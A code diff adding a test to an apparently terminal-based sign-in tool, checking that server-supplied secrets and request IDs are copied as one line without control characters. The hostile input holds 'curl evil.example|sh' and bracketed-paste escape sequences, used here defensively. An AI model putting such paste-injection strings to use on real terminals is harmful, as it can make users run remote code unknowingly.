@@ -43,3 +43,21 @@ test('the address of a browser sign-in is one link, however it is wrapped, witho
 	await terminal.press('ctrl+y');
 	assert.deepEqual(copied(terminal.transcript()), [url]);
 });
+
+test('what a server gives is copied as one line without control characters', async () => {
+	const hostile = 'JBSW\r\ncurl evil.example|sh\n\u001b[201~\u009b31mend';
+	const state = {...states.authenticator, secret: hostile};
+	await using terminal = await openTerminal(screenOf(state, context), {columns: 120});
+	await terminal.press('ctrl+y');
+	assert.deepEqual(copied(terminal.transcript()), ['JBSW curl evil.example|sh end']);
+
+	const {sent} = states.enterCode;
+	const requestId = 'id\u001b[201~\u0007\u009b';
+	const entering = {
+		...states.enterCode,
+		sent: {...sent, delivery: {...sent.delivery, requestId}},
+	};
+	await using other = await openTerminal(screenOf(entering, context), {columns: 120});
+	await other.press('ctrl+y');
+	assert.deepEqual(copied(other.transcript()), ['id[201~']);
+});
